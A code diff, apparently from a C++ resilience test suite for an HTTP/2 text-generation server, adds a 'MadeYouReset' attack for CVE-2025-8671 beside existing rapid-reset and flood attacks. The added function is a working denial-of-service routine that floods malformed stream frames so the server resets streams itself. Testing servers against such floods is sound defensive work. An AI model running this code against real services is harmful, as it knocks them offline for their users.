@@ -44,6 +44,29 @@ void RapidReset(const HostileTarget& target, const Stop& stop, AttackTally& tall
   }
 }
 
+// CVE-2025-8671, MadeYouReset: calls that the other end itself resets, once it works on them, since
+// their window overflows or they go on behind their end.
+void MadeYouReset(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
+  v1::GenerateRequest request;
+  request.set_text("Once upon a time");
+  request.mutable_stopping()->set_max_tokens(200);
+  const std::string message = Message(request.SerializeAsString());
+  while (!stop) {
+    Peer peer(target, tally);
+    if (!peer.open()) Pause(1);
+    for (uint32_t stream = 1; !stop && peer.open() && stream < 6000;) {
+      std::string bytes;
+      for (int i = 0; i < 100; ++i, stream += 2) {
+        bytes += Call(stream) + Frame(kData, kEndStream, stream, message);
+        bytes += i % 2 == 0 ? Frame(kWindowUpdate, 0, stream, BigEndian(0x7fffffff))
+                            : Frame(kData, 0, stream, "x");
+      }
+      peer.Send(bytes);
+      peer.Drain();
+    }
+  }
+}
+
 // Limits count once they are acknowledged: this peer opens calls, and sends long headers, without.
 void UnacknowledgedSettings(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
   while (!stop) {
@@ -294,6 +317,7 @@ void ConnectionFlood(const HostileTarget& target, const Stop& stop, AttackTally&
 const std::vector<Attack>& Attacks() {
   static const std::vector<Attack> attacks = {
       {.name = "rapid_reset", .min_frames = 20'000, .thrown_out = true, .run = RapidReset},
+      {.name = "made_you_reset", .min_frames = 1'000, .thrown_out = true, .run = MadeYouReset},
       {.name = "unacknowledged_settings",
        .min_frames = 5'000,
        .thrown_out = true,
